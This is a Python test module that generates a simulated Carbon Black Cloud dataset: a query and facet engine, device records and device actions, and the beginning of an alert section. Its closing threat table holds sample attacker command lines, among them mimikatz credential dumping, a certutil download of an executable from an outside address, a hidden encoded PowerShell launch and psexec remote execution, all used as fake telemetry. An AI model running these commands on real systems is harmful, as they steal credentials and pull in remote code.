"""The Carbon Black Cloud org's data: devices, alerts, processes and events, auth events,
LiveQuery, threat intelligence and the legacy Defense v3 views.

Generated rows are pure functions of ``(seed, index)`` built on the shared endpoint population
(:mod:`cbasync.testing.dataset.endpoints`); only what a client changes (a quarantine, an alert's
workflow, a feed) is kept in memory. Large sets (processes, auth events) are never materialised:
a :class:`Table` evaluates queries, criteria and facets through per-field getters over row
indices, and builds a row's JSON only when it is returned.

Timestamps describe a history that ends at the configuration's ``data_epoch``; relative windows
(``time_range: {"window": "-2w"}``, ``{"range": "-1d"}``, the alerts v7 default of two weeks) count
back from that end, so a seed answers the same whatever today's date is.

Nothing here knows HTTP. The routes in ``cbasync.testing.routes.cloud_*`` translate requests to
these calls.
"""

from __future__ import annotations

import hashlib
import math
import re
from collections import Counter
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

from cbasync.testing.dataset.endpoints import POLICIES, Endpoint, EndpointPopulation
from cbasync.testing.query import Categorical, FieldType, compile_query, parse

__all__ = [
    "Column",
    "CriteriaError",
    "Table",
    "epoch_of",
    "iso",
    "parse_time_range",
    "sort_spec",
    "stable",
    "window_seconds",
]

Getter = Callable[[int], Any]
Column = Getter | Categorical[int]


class CriteriaError(ValueError):
    """A search body the server refuses (400): bad criteria, sort, time range or facet field."""

    def __init__(self, message: str, *, field: str | None = None, known: Sequence[str] = ()):
        super().__init__(message)
        self.field = field
        self.known = list(known)


# --------------------------------------------------------------------------------------------
# small helpers
# --------------------------------------------------------------------------------------------


def stable(*parts: object) -> int:
    """A 64-bit integer that depends only on ``parts`` (never on PYTHONHASHSEED)."""
    return int.from_bytes(hashlib.blake2b(repr(parts).encode(), digest_size=8).digest(), "big")


def mix(seed: int, i: int, salt: int) -> int:
    """A cheap integer hash of (seed, i, salt), good enough to pick from tables."""
    x = (i * 0x9E3779B97F4A7C15 + seed * 0xBF58476D1CE4E5B9 + salt * 0x94D049BB133111EB) & (
        (1 << 64) - 1
    )
    x ^= x >> 31
    x = (x * 0xD6E8FEB86659FD93) & ((1 << 64) - 1)
    x ^= x >> 29
    return x


def iso(epoch: float | None) -> str | None:
    """``2024-05-01T12:00:00.000Z``: the cloud's timestamp spelling."""
    if epoch is None:
        return None
    ms = round(epoch * 1000)
    seconds, millis = divmod(ms, 1000)
    days, rem = divmod(seconds, 86_400)
    hh, rem = divmod(rem, 3600)
    mm, ss = divmod(rem, 60)
    y, mo, d = _civil(days)
    return f"{y:04d}-{mo:02d}-{d:02d}T{hh:02d}:{mm:02d}:{ss:02d}.{millis:03d}Z"


def _civil(days: int) -> tuple[int, int, int]:
    """Proleptic Gregorian date of a day count since 1970-01-01 (Howard Hinnant's algorithm)."""
    z = days + 719_468
    era = (z if z >= 0 else z - 146_096) // 146_097
    doe = z - era * 146_097
    yoe = (doe - doe // 1460 + doe // 36_524 - doe // 146_096) // 365
    y = yoe + era * 400
    doy = doe - (365 * yoe + yoe // 4 - yoe // 100)
    mp = (5 * doy + 2) // 153
    d = doy - (153 * mp + 2) // 5 + 1
    m = mp + 3 if mp < 10 else mp - 9
    return (y + 1 if m <= 2 else y), m, d


_WINDOW = re.compile(r"^-?(\d+)([ywdhms])$", re.IGNORECASE)
_WINDOW_UNITS = {"y": 365 * 86_400, "w": 7 * 86_400, "d": 86_400, "h": 3600, "m": 60, "s": 1}


def window_seconds(text: str) -> float:
    """``"-2w"`` → seconds (y, w, d, h, m, s units)."""
    match = _WINDOW.match(str(text).strip())
    if match is None:
        raise CriteriaError(f"invalid time window {text!r} (expected e.g. -2w, -1d, -30m)")
    return int(match.group(1)) * _WINDOW_UNITS[match.group(2).lower()]


def epoch_of(value: Any) -> float:
    """Epoch seconds of an ISO-8601 string or a number (seconds, or ms above 1e11)."""
    from cbasync.testing.query import iso_to_epoch

    epoch = iso_to_epoch(value)
    if epoch is None:
        raise CriteriaError(f"invalid timestamp {value!r} (expected ISO 8601)")
    return epoch


def parse_time_range(spec: Any, anchor: float) -> tuple[float, float] | None:
    """``(start, end)`` epoch seconds of ``{start, end}``, ``{window}`` or ``{range}``; the window
    wins over start/end (as the seeds say). Relative windows end at ``anchor``."""
    if spec is None or spec == {}:
        return None
    if not isinstance(spec, Mapping):
        raise CriteriaError("time_range must be an object")
    relative = spec.get("window") or spec.get("range")
    if relative:
        return anchor - window_seconds(str(relative)), anchor
    start = spec.get("start")
    end = spec.get("end")
    if start is None and end is None:
        return None
    return (
        epoch_of(start) if start is not None else -math.inf,
        epoch_of(end) if end is not None else math.inf,
    )


def sort_spec(raw: Any) -> list[tuple[str, bool]]:
    """``[{"field": f, "order": "asc"|"desc"}]`` → ``[(field, descending)]``."""
    if raw is None:
        return []
    if isinstance(raw, Mapping):
        raw = [raw]
    if not isinstance(raw, list):
        raise CriteriaError("sort must be a list of {field, order}")
    out: list[tuple[str, bool]] = []
    for item in raw:
        if not isinstance(item, Mapping) or not isinstance(item.get("field"), str):
            raise CriteriaError("each sort entry needs a field")
        order = str(item.get("order", "asc")).lower()
        if order not in ("asc", "desc"):
            raise CriteriaError(f"invalid sort order {item.get('order')!r}", field="sort.order")
        out.append((item["field"], order == "desc"))
    return out


def _norm(value: Any) -> Any:
    if isinstance(value, str):
        return value.lower()
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, float) and value.is_integer():
        return int(value)
    return value


def _values(value: Any) -> list[Any]:
    if value is None:
        return []
    if isinstance(value, (list, tuple, set, frozenset)):
        return list(value)
    return [value]


class _Desc:
    """Reverses one component of a composite sort key."""

    __slots__ = ("v",)

    def __init__(self, v: Any) -> None:
        self.v = v

    def __lt__(self, other: _Desc) -> bool:
        return bool(other.v < self.v)

    def __eq__(self, other: object) -> bool:
        return isinstance(other, _Desc) and bool(self.v == other.v)

    __hash__ = None  # type: ignore[assignment]


def _rank(value: Any) -> tuple[int, Any]:
    if isinstance(value, (list, tuple)):
        value = value[0] if value else None
    if value is None:
        return (3, 0)
    if isinstance(value, bool):
        return (0, int(value))
    if isinstance(value, (int, float)):
        return (0, value)
    return (1, str(value).lower())


# --------------------------------------------------------------------------------------------
# Table: queries, criteria, time ranges, sorting and facets over row indices
# --------------------------------------------------------------------------------------------


@dataclass
class Table:
    """Rows ``0..count-1`` described by per-field getters.

    ``columns`` maps a field to a getter ``index -> value`` or a :class:`Categorical` (a code per
    row into a small value table: criteria, queries and facets on it cost one lookup per row).
    ``schema`` types the fields for the query language; ``default_fields`` are searched by a bare
    term; ``time_field`` is what ``time_range`` filters on; ``special`` criteria keys have their
    own row tests (e.g. a device ``status`` of ``ACTIVE``).
    """

    count: Callable[[], int]
    columns: Mapping[str, Column]
    schema: Mapping[str, FieldType]
    default_fields: Sequence[str] = ()
    time_field: str | None = None
    time_criteria: frozenset[str] = frozenset()
    special: Mapping[str, Callable[[list[Any]], Callable[[int], bool]]] = field(
        default_factory=dict
    )
    aliases: Mapping[str, str] = field(default_factory=dict)

    def column(self, name: str) -> Column | None:
        return self.columns.get(self.aliases.get(name, name))

    def value(self, i: int, name: str) -> Any:
        col = self.column(name)
        if col is None:
            return None
        if isinstance(col, Categorical):
            return col.values[col.code(i)]
        return col(i)

    # -- predicates ------------------------------------------------------------------------------
    def _accessor(self, name: str) -> Column | None:
        return self.column(name)

    def query_predicate(self, query: str | None, anchor: float) -> Callable[[int], bool] | None:
        if query is None or not str(query).strip():
            return None
        node = parse(str(query))
        return compile_query(
            node,
            schema={self.aliases.get(k, k): v for k, v in self.schema.items()} | dict(self.schema),
            default_fields=self.default_fields,
            accessor=self._accessor,
            now=anchor,
            query=str(query),
        )

    def _value_test(self, name: str, wanted: list[Any]) -> Callable[[int], bool]:
        col = self.column(name)
        if col is None:
            raise CriteriaError(f"unknown criteria field {name!r}", field=name)
        targets = {_norm(v) for v in wanted}

        def hit(value: Any) -> bool:
            return any(_norm(v) in targets for v in _values(value))

        if isinstance(col, Categorical):
            table = [hit(v) for v in col.values]
            code = col.code
            return lambda i: table[code(i)]
        getter = col
        return lambda i: hit(getter(i))

    def _time_test(self, name: str, spec: Any, anchor: float) -> Callable[[int], bool]:
        span = parse_time_range(spec, anchor)
        col = self.column(name)
        if col is None or isinstance(col, Categorical):
            raise CriteriaError(f"unknown time field {name!r}", field=name)
        if span is None:
            return lambda i: True
        lo, hi = span
        getter = col

        def test(i: int) -> bool:
            v = getter(i)
            if v is None:
                return False
            t = v if isinstance(v, (int, float)) else epoch_of(v)
            return bool(lo <= t <= hi)

        return test

    def criteria_predicate(
        self, criteria: Any, anchor: float, *, negate: bool = False
    ) -> Callable[[int], bool] | None:
        if criteria is None or criteria == {}:
            return None
        if not isinstance(criteria, Mapping):
            raise CriteriaError("criteria must be an object mapping fields to value lists")
        tests: list[Callable[[int], bool]] = []
        for name, raw in criteria.items():
            if name in self.special:
                tests.append(self.special[name](_values(raw)))
            elif name in self.time_criteria:
                tests.append(self._time_test(name, raw, anchor))
            else:
                values = _values(raw)
                if not values:
                    continue
                tests.append(self._value_test(name, values))
        if not tests:
            return None
        if negate:
            # Exclusions: a row is dropped when it matches any excluded field.
            return lambda i: not any(t(i) for t in tests)
        return lambda i: all(t(i) for t in tests)

    def select(
        self,
        *,
        query: str | None = None,
        criteria: Any = None,
        exclusions: Any = None,
        time_range: Any = None,
        anchor: float,
        extra: Callable[[int], bool] | None = None,
        limit_scan: int | None = None,
    ) -> list[int]:
        """Indices of the matching rows, in row order."""
        tests = [
            p
            for p in (
                self.criteria_predicate(criteria, anchor),
                self.criteria_predicate(exclusions, anchor, negate=True),
                self.query_predicate(query, anchor),
                extra,
            )
            if p is not None
        ]
        if self.time_field is not None and time_range:
            tests.insert(0, self._time_test(self.time_field, time_range, anchor))
        n = self.count() if limit_scan is None else min(self.count(), limit_scan)
        if not tests:
            return list(range(n))
        if len(tests) == 1:
            only = tests[0]
            return [i for i in range(n) if only(i)]
        return [i for i in range(n) if all(t(i) for t in tests)]

    def sorted(
        self, indices: list[int], spec: list[tuple[str, bool]], *, default: list[tuple[str, bool]]
    ) -> list[int]:
        spec = spec or default
        if not spec:
            return indices
        for name, _ in spec:
            if self.column(name) is None:
                raise CriteriaError(f"cannot sort on unknown field {name!r}", field="sort.field")
        if len(spec) == 1:
            name, desc = spec[0]
            return sorted(indices, key=lambda i: _rank(self.value(i, name)), reverse=desc)

        def key(i: int) -> tuple[Any, ...]:
            return tuple(
                _Desc(_rank(self.value(i, n))) if d else _rank(self.value(i, n)) for n, d in spec
            )

        return sorted(indices, key=key)

    def top(
        self,
        indices: list[int],
        spec: list[tuple[str, bool]],
        k: int,
        *,
        default: list[tuple[str, bool]],
    ) -> list[int]:
        """The first ``k`` of ``indices`` in sort order (cheaper than a full sort when k is small)."""
        import heapq

        spec = spec or default
        if not spec or k >= len(indices):
            return self.sorted(indices, spec, default=default)[:k]
        for name, _ in spec:
            if self.column(name) is None:
                raise CriteriaError(f"cannot sort on unknown field {name!r}", field="sort.field")

        def key(i: int) -> tuple[Any, ...]:
            parts = [
                _Desc(_rank(self.value(i, n))) if d else _rank(self.value(i, n)) for n, d in spec
            ]
            return (*parts, i)

        return heapq.nsmallest(k, indices, key=key)

    def facet(self, indices: Iterable[int], name: str) -> list[tuple[Any, int]]:
        """``(value, count)`` pairs of one field over ``indices``, most frequent first."""
        col = self.column(name)
        if col is None:
            raise CriteriaError(f"unknown facet field {name!r}", field=name)
        counts: Counter[Any] = Counter()
        if isinstance(col, Categorical):
            codes: Counter[int] = Counter(col.code(i) for i in indices)
            for code, n in codes.items():
                for v in _values(col.values[code]):
                    counts[v] += n
        else:
            for i in indices:
                for v in _values(col(i)):
                    counts[v] += 1
        return sorted(counts.items(), key=lambda kv: (-kv[1], str(kv[0])))


def facet_values(pairs: Sequence[tuple[Any, int]], rows: int | None) -> list[dict[str, Any]]:
    """Cloud facet values: ``[{"total", "id", "name"}]``, top ``rows`` (0/None: all)."""
    if rows:
        pairs = pairs[:rows]
    return [{"total": n, "id": _facet_id(v), "name": _facet_id(v)} for v, n in pairs]


def _facet_id(value: Any) -> str:
    if isinstance(value, bool):
        return str(value).lower()
    return str(value)


__all__ += ["POLICIES", "Endpoint", "EndpointPopulation", "facet_values", "mix"]


# --------------------------------------------------------------------------------------------
# Devices (platform v6 and Defense v3 views of the endpoint population)
# --------------------------------------------------------------------------------------------

DEVICE_FACET_FIELDS = (
    "policy_id",
    "status",
    "os",
    "ad_group_id",
    "cloud_provider_account_id",
    "auto_scaling_group_name",
    "virtual_private_cloud_id",
    "deployment_type",
)
DEVICE_ACTIONS = (
    "QUARANTINE",
    "BYPASS",
    "BACKGROUND_SCAN",
    "UPDATE_POLICY",
    "UPDATE_SENSOR_VERSION",
    "UNINSTALL_SENSOR",
    "DELETE_SENSOR",
)
_DEVICE_STATUSES = (
    "PENDING",
    "REGISTERED",
    "UNINSTALLED",
    "DEREGISTERED",
    "ACTIVE",
    "INACTIVE",
    "ERROR",
    "ALL",
    "BYPASS_ON",
    "BYPASS",
    "QUARANTINE",
    "SENSOR_OUTOFDATE",
    "DELETED",
    "LIVE",
)
_ORG_ID = 1105


@dataclass
class _DeviceExtra:
    """Cloud-only mutable state of a device (the rest lives on the shared Endpoint)."""

    scan_enabled: bool = False
    scan_changed: float | None = None
    policy_changed: float | None = None
    sensor_update_requested: str | None = None
    uninstall_requested: float | None = None


class DeviceStore:
    """Platform devices: v6 JSON, Defense v3 JSON, search, facets and device actions."""

    def __init__(
        self,
        endpoints: EndpointPopulation,
        *,
        org_name: str,
        now: Callable[[], float],
        monotonic: Callable[[], float],
        isolation_delay: float,
    ) -> None:
        self.endpoints = endpoints
        self.org_name = org_name
        self.now = now
        self.monotonic = monotonic
        self.isolation_delay = isolation_delay
        self.extra: dict[int, _DeviceExtra] = {}
        self.table = self._table()

    # -- per-endpoint facts --------------------------------------------------------------------
    def endpoint(self, device_id: int) -> Endpoint | None:
        ep = self.endpoints.by_device_id(device_id)
        return ep if ep is not None and not ep.deregistered else None

    def _extra(self, ep: Endpoint) -> _DeviceExtra:
        extra = self.extra.get(ep.index)
        if extra is None:
            extra = self.extra[ep.index] = _DeviceExtra()
        return extra

    def status(self, ep: Endpoint) -> str:
        if ep.deregistered:
            return "DEREGISTERED"
        if ep.uninstall:
            return "UNINSTALLED"
        if ep.bypass:
            return "BYPASS"
        return "REGISTERED"

    def last_contact(self, ep: Endpoint) -> float:
        if ep.online and not ep.uninstall and not ep.deregistered:
            return self.now() - (ep.index * 7 % 45) - 5
        return self.endpoints.epoch - ep.offline_days * 86_400

    def quarantined(self, ep: Endpoint) -> bool:
        return ep.is_isolating(self.monotonic(), self.isolation_delay)

    def deployment_type(self, ep: Endpoint) -> str:
        return (
            "WORKLOAD" if ep.host_type != "workstation" and ep.os_family == "linux" else "ENDPOINT"
        )

    def target_priority(self, ep: Endpoint) -> str:
        if ep.host_type == "domain_controller":
            return "MISSION_CRITICAL"
        return "HIGH" if ep.host_type == "server" else ("LOW" if ep.group_id == 5 else "MEDIUM")

    def v6(self, ep: Endpoint) -> dict[str, Any]:
        extra = self._extra(ep)
        contact = self.last_contact(ep)
        online = ep.online and not ep.uninstall and not ep.deregistered
        states = (
            ["ACTIVE", "LIVE_RESPONSE_ENABLED"]
            if online
            else ["ACTIVE", "LIVE_RESPONSE_NOT_RUNNING"]
        )
        if ep.os_family == "windows":
            states.append("SECURITY_CENTER_OPTLN_DISABLED")
        av = ["AV_ACTIVE", "ONDEMAND_SCAN_DISABLED"] if ep.os_family == "windows" else []
        if extra.scan_enabled and av:
            av[1] = "ONDEMAND_SCAN_ENABLED"
        user = ep.username
        registered = ep.registered_time
        windows = ep.os_family == "windows"
        return {
            "id": ep.device_id,
            "name": ep.hostname,
            "os": ep.cloud_os,
            "os_version": ep.cloud_os_version,
            "status": self.status(ep),
            "last_contact_time": iso(contact),
            "last_reported_time": iso(contact - 30),
            "registered_time": iso(registered),
            "deregistered_time": iso(self.now()) if ep.deregistered else None,
            "policy_id": ep.policy_id,
            "policy_name": ep.policy_name,
            "policy_override": extra.policy_changed is not None,
            "current_sensor_policy_name": ep.policy_name,
            "last_policy_updated_time": iso(extra.policy_changed or registered + 3600),
            "last_device_policy_changed_time": iso(extra.policy_changed),
            "last_device_policy_requested_time": iso(contact),
            "quarantined": self.quarantined(ep),
            "sensor_version": ep.cloud_sensor_version,
            "sensor_out_of_date": False,
            "sensor_pending_update": extra.sensor_update_requested is not None,
            "sensor_kit_type": {"windows": "WINDOWS", "macos": "MAC", "linux": "LINUX"}[
                ep.os_family
            ],
            "sensor_states": states,
            "deployment_type": self.deployment_type(ep),
            "target_priority": self.target_priority(ep),
            "ad_group_id": 0 if not windows else 1000 + ep.group_id,
            "av_status": av,
            "av_engine": "4.14.3.454-ave.8.3.62.236:avpack.8.5.0.94:vdf.8.20.40.20"
            if windows
            else None,
            "av_last_scan_time": iso(extra.scan_changed) if extra.scan_changed else None,
            "av_master": False,
            "av_product_version": "4.14.3.454" if windows else None,
            "av_update_servers": [],
            "av_vdf_version": "8.20.40.20" if windows else None,
            "av_pack_version": "8.5.0.94" if windows else None,
            "av_ave_version": "8.3.62.236" if windows else None,
            "scan_status": "IN_PROGRESS" if extra.scan_enabled else None,
            "scan_last_action_time": iso(extra.scan_changed),
            "scan_last_complete_time": None,
            "passive_mode": False,
            "last_internal_ip_address": ep.internal_ip,
            "last_external_ip_address": ep.external_ip,
            "mac_address": ep.mac_address,
            "last_location": "OFFSITE" if ep.index % 4 == 1 else "ONSITE",
            "login_user_name": user,
            "email": ep.email,
            "first_name": ep.first_name,
            "last_name": ep.last_name,
            "middle_name": None,
            "device_owner_id": 50_000 + ep.index,
            "organization_id": _ORG_ID,
            "organization_name": self.org_name,
            "activation_code": None,
            "activation_code_expiry_time": iso(registered + 30 * 86_400),
            "encoded_activation_code": None,
            "uninstall_code": f"{stable('uninstall', ep.index) % 10**8:08d}",
            "uninstall_requested": extra.uninstall_requested is not None,
            "windows_platform": None,
            "linux_kernel_version": "5.15.0-91-generic" if ep.os_family == "linux" else None,
            "virtual_machine": ep.host_type != "workstation",
            "virtualization_provider": "VMW_ESX" if ep.host_type != "workstation" else "UNKNOWN",
            "vdi_base_device": None,
            "last_shutdown_time": None,
            "last_reset_time": None,
            "device_meta_data_item_list": [
                {"key_name": "OS_MAJOR_VERSION", "key_value": ep.cloud_os_version, "position": 0}
            ],
            "auto_scaling_group_name": None,
            "cloud_provider_account_id": None,
            "cloud_provider_resource_id": None,
            "cloud_provider_tags": [],
            "virtual_private_cloud_id": None,
            "host_based_firewall_failure_reason": None,
            "host_based_firewall_status": None,
            "base_device": None,
            "asset_group": [],
            "vulnerability_score": round(stable("vuln", ep.index) % 1000 / 100, 2),
            "vulnerability_severity": ("LOW", "MODERATE", "IMPORTANT", "CRITICAL")[ep.index % 4],
        }

    def v3(self, ep: Endpoint) -> dict[str, Any]:
        """The Defense v3 ``deviceInfo`` (camelCase, epoch milliseconds)."""
        v6 = self.v6(ep)
        contact = self.last_contact(ep)
        return {
            "deviceId": ep.device_id,
            "deviceGuid": f"{stable('guid', ep.index):032x}"[:32],
            "deviceSessionId": stable("session", ep.index) % 10**9,
            "deviceOwnerId": v6["device_owner_id"],
            "deviceType": ep.cloud_os,
            "name": ep.hostname,
            "osVersion": ep.cloud_os_version,
            "status": v6["status"],
            "lastContact": int(contact * 1000),
            "lastReportedTime": int((contact - 30) * 1000),
            "registeredTime": int(ep.registered_time * 1000),
            "createTime": int(ep.registered_time * 1000),
            "deregisteredTime": None,
            "uninstalledTime": None,
            "policyId": ep.policy_id,
            "policyName": ep.policy_name,
            "quarantined": v6["quarantined"],
            "sensorVersion": ep.cloud_sensor_version,
            "sensorStates": v6["sensor_states"],
            "avStatus": v6["av_status"],
            "avEngine": v6["av_engine"],
            "avMaster": False,
            "avUpdateServers": [],
            "avLastScanTime": None,
            "lastInternalIpAddress": ep.internal_ip,
            "lastExternalIpAddress": ep.external_ip,
            "lastLocation": v6["last_location"],
            "email": ep.email,
            "firstName": ep.first_name,
            "lastName": ep.last_name,
            "middleName": None,
            "assignedToId": v6["device_owner_id"],
            "assignedToName": ep.username,
            "organizationId": _ORG_ID,
            "organizationName": self.org_name,
            "targetPriorityType": v6["target_priority"],
            "passiveMode": False,
            "vdiBaseDevice": None,
            "windowsPlatform": None,
            "linuxKernelVersion": v6["linux_kernel_version"],
            "activationCode": None,
            "activationCodeExpiryTime": None,
            "scanStatus": v6["scan_status"],
            "scanLastActionTime": None,
            "scanLastCompleteTime": None,
            "rootedBySensor": False,
            "rootedBySensorTime": None,
            "rootedByAnalytics": False,
            "rootedByAnalyticsTime": None,
            "firstVirusActivityTime": 0,
            "lastVirusActivityTime": 0,
            "lastResetTime": 0,
            "lastShutdownTime": 0,
            "testId": -1,
            "messages": [],
        }

    # -- search ----------------------------------------------------------------------------------
    def _table(self) -> Table:
        eps = self.endpoints

        def ep(i: int) -> Endpoint:
            return eps[i]

        cols: dict[str, Column] = {
            "id": lambda i: ep(i).device_id,
            "name": lambda i: ep(i).hostname,
            "os": lambda i: ep(i).cloud_os,
            "os_version": lambda i: ep(i).cloud_os_version,
            "status": lambda i: self.status(ep(i)),
            "policy_id": lambda i: ep(i).policy_id,
            "policy_name": lambda i: ep(i).policy_name,
            "target_priority": lambda i: self.target_priority(ep(i)),
            "ad_group_id": lambda i: 0 if ep(i).os_family != "windows" else 1000 + ep(i).group_id,
            "deployment_type": lambda i: self.deployment_type(ep(i)),
            "sensor_version": lambda i: ep(i).cloud_sensor_version,
            "last_contact_time": lambda i: self.last_contact(ep(i)),
            "registered_time": lambda i: ep(i).registered_time,
            "quarantined": lambda i: self.quarantined(ep(i)),
            "login_user_name": lambda i: ep(i).username,
            "email": lambda i: ep(i).email,
            "first_name": lambda i: ep(i).first_name,
            "last_name": lambda i: ep(i).last_name,
            "last_internal_ip_address": lambda i: ep(i).internal_ip,
            "last_external_ip_address": lambda i: ep(i).external_ip,
            "mac_address": lambda i: ep(i).mac_address,
            "virtual_machine": lambda i: ep(i).host_type != "workstation",
            "sensor_out_of_date": lambda i: False,
            "cloud_provider_account_id": lambda i: None,
            "auto_scaling_group_name": lambda i: None,
            "virtual_private_cloud_id": lambda i: None,
            "device_owner_id": lambda i: 50_000 + i,
        }
        schema: dict[str, FieldType] = {
            "id": "number",
            "name": "keyword",
            "os": "keyword",
            "os_version": "text",
            "status": "keyword",
            "policy_id": "number",
            "policy_name": "keyword",
            "target_priority": "keyword",
            "ad_group_id": "number",
            "deployment_type": "keyword",
            "sensor_version": "keyword",
            "last_contact_time": "date",
            "registered_time": "date",
            "quarantined": "bool",
            "login_user_name": "keyword",
            "email": "keyword",
            "first_name": "keyword",
            "last_name": "keyword",
            "last_internal_ip_address": "ip",
            "last_external_ip_address": "ip",
            "mac_address": "keyword",
            "virtual_machine": "bool",
        }
        return Table(
            count=lambda: len(eps),
            columns=cols,
            schema=schema,
            default_fields=("name", "login_user_name", "email", "os_version", "policy_name"),
            time_criteria=frozenset({"last_contact_time"}),
            special={"status": self._status_test},
        )

    def _status_test(self, wanted: list[Any]) -> Callable[[int], bool]:
        names = {str(w).upper() for w in wanted}
        unknown = names - set(_DEVICE_STATUSES)
        if unknown:
            raise CriteriaError(
                f"invalid status {sorted(unknown)[0]!r}",
                field="criteria.status",
                known=_DEVICE_STATUSES,
            )
        if "ALL" in names:
            return lambda i: True
        eps = self.endpoints

        def test(i: int) -> bool:
            ep = eps[i]
            status = self.status(ep)
            live = ep.online and status == "REGISTERED"
            checks = {
                "REGISTERED": status == "REGISTERED",
                "ACTIVE": status in ("REGISTERED", "BYPASS"),
                "LIVE": live,
                "INACTIVE": not live and status == "REGISTERED",
                "BYPASS": status == "BYPASS",
                "BYPASS_ON": status == "BYPASS",
                "QUARANTINE": self.quarantined(ep),
                "UNINSTALLED": status == "UNINSTALLED",
                "DEREGISTERED": status == "DEREGISTERED",
                "DELETED": status == "DEREGISTERED",
                "PENDING": False,
                "ERROR": False,
                "SENSOR_OUTOFDATE": False,
            }
            return any(checks.get(n, False) for n in names)

        return test

    def search(self, body: Mapping[str, Any], *, anchor: float) -> list[int]:
        """Matching endpoint indices (deregistered devices only when asked for by status)."""
        criteria = dict(body.get("criteria") or {})
        extra: Callable[[int], bool] | None = None
        if "status" not in criteria:
            criteria["status"] = ["ALL"]

            def extra(i: int) -> bool:
                return not self.endpoints[i].deregistered

        return self.table.select(
            query=body.get("query"),
            criteria=criteria,
            exclusions=body.get("exclusions"),
            anchor=anchor,
            extra=extra,
        )

    def facet_name(self, field_name: str, value: Any) -> str:
        if field_name == "policy_id":
            return dict(POLICIES).get(value, f"Policy {value}")
        return _facet_id(value)

    # -- actions ---------------------------------------------------------------------------------
    def act(self, action: str, device_ids: Iterable[int], options: Mapping[str, Any]) -> int:
        """Apply a device action; returns how many known devices it touched."""
        action = action.upper()
        if action not in DEVICE_ACTIONS:
            raise CriteriaError(
                f"invalid action_type {action!r}", field="action_type", known=DEVICE_ACTIONS
            )
        toggle = str(options.get("toggle", "")).upper()
        if action in ("QUARANTINE", "BYPASS", "BACKGROUND_SCAN") and toggle not in ("ON", "OFF"):
            raise CriteriaError("options.toggle must be ON or OFF", field="options.toggle")
        if action == "UPDATE_POLICY":
            policy = options.get("policy_id")
            if not isinstance(policy, int) or isinstance(policy, bool):
                raise CriteriaError(
                    "options.policy_id (an integer) is required", field="options.policy_id"
                )
        if action == "UPDATE_SENSOR_VERSION":
            versions = options.get("sensor_version")
            if not isinstance(versions, Mapping) or not versions:
                raise CriteriaError(
                    "options.sensor_version must map a kit type to a version",
                    field="options.sensor_version",
                )
        touched = 0
        now = self.now()
        for device_id in device_ids:
            ep = self.endpoints.by_device_id(device_id)
            if ep is None or ep.deregistered:
                continue
            touched += 1
            extra = self._extra(ep)
            if action == "QUARANTINE":
                ep.request_isolation(toggle == "ON", self.monotonic(), self.isolation_delay)
            elif action == "BYPASS":
                ep.bypass = toggle == "ON"
            elif action == "BACKGROUND_SCAN":
                extra.scan_enabled = toggle == "ON"
                extra.scan_changed = now
            elif action == "UPDATE_POLICY":
                policy_id = int(options["policy_id"])
                ep.policy_id = policy_id
                ep.policy_name = dict(POLICIES).get(policy_id, f"Policy {policy_id}")
                extra.policy_changed = now
            elif action == "UPDATE_SENSOR_VERSION":
                versions = dict(options["sensor_version"])
                kit = {"windows": "WINDOWS", "macos": "MAC", "linux": "LINUX"}[ep.os_family]
                for key, version in versions.items():
                    if str(key).upper() == kit or (
                        kit == "LINUX"
                        and str(key).upper()
                        in ("RHEL", "UBUNTU", "SUSE", "CENTOS", "DEBIAN", "AMAZON_LINUX", "ORACLE")
                    ):
                        ep.cloud_sensor_version = str(version)
                        extra.sensor_update_requested = str(version)
            elif action == "UNINSTALL_SENSOR":
                ep.uninstall = True
                extra.uninstall_requested = now
            elif action == "DELETE_SENSOR":
                ep.deregistered = True
        return touched


# --------------------------------------------------------------------------------------------
# Alerts (v7 records, also rendered in the v6 shape)
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class _Threat:
    """A process behaviour that alerts are raised for."""

    name: str
    path_windows: str
    path_unix: str
    cmdline: str
    reputation: str
    parent: str
    reason: str
    ttps: tuple[str, ...]
    tactic: str

    def sha256(self) -> str:
        return hashlib.sha256(self.name.encode()).hexdigest()

    def md5(self) -> str:
        return hashlib.md5(self.name.encode(), usedforsecurity=False).hexdigest()


_THREATS: tuple[_Threat, ...] = (
    _Threat("powershell.exe", "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe", "/usr/bin/pwsh", "powershell.exe -nop -w hidden -enc SQBFAFgA", "TRUSTED_WHITE_LIST", "winword.exe", "The application powershell.exe executed a fileless script or command.", ("FILELESS", "POLICY_TERMINATE", "MITRE_T1059_001_POWERSHELL"), "TA0002"),
    _Threat("mimikatz.exe", "c:\\users\\public\\mimikatz.exe", "/tmp/mimikatz", "mimikatz.exe privilege::debug sekurlsa::logonpasswords exit", "KNOWN_MALWARE", "cmd.exe", "A known malware process (mimikatz.exe) attempted to read the memory of lsass.exe.", ("KNOWN_MALWARE", "READ_SECURITY_DATA", "MITRE_T1003_CREDENTIAL_DUMP"), "TA0006"),
    _Threat("rundll32.exe", "c:\\windows\\system32\\rundll32.exe", "/usr/bin/rundll32", "rundll32.exe C:\\Users\\Public\\payload.dll,DllRegisterServer", "TRUSTED_WHITE_LIST", "explorer.exe", "The application rundll32.exe loaded an unsigned library from a public folder.", ("SUSPICIOUS_BEHAVIOR", "MITRE_T1218_011_RUNDLL32"), "TA0005"),
    _Threat("invoice.pdf.exe", "c:\\users\\{user}\\downloads\\invoice.pdf.exe", "/home/{user}/invoice.pdf", "\"C:\\Users\\{user}\\Downloads\\invoice.pdf.exe\"", "SUSPECT_MALWARE", "outlook.exe", "A suspected malware file (invoice.pdf.exe) was executed from the Downloads folder.", ("SUSPECT_MALWARE", "RAN_UNTRUSTED", "MITRE_T1204_002_MALICIOUS_FILE"), "TA0002"),
    _Threat("certutil.exe", "c:\\windows\\system32\\certutil.exe", "/usr/bin/certutil", "certutil.exe -urlcache -split -f http://203.0.113.77/a.exe a.exe", "TRUSTED_WHITE_LIST", "cmd.exe", "The application certutil.exe downloaded a file from an untrusted address.", ("NETWORK_ACCESS", "MITRE_T1105_INGRESS_TOOL_TRANSFER"), "TA0011"),
    _Threat("psexec.exe", "c:\\tools\\psexec.exe", "/usr/local/bin/psexec", "psexec.exe \\\\DC01 -s cmd.exe", "ADAPTIVE_WHITE_LIST", "cmd.exe", "The application psexec.exe started a remote service.", ("LATERAL_MOVEMENT", "MITRE_T1569_002_SERVICE_EXECUTION"), "TA0008"),
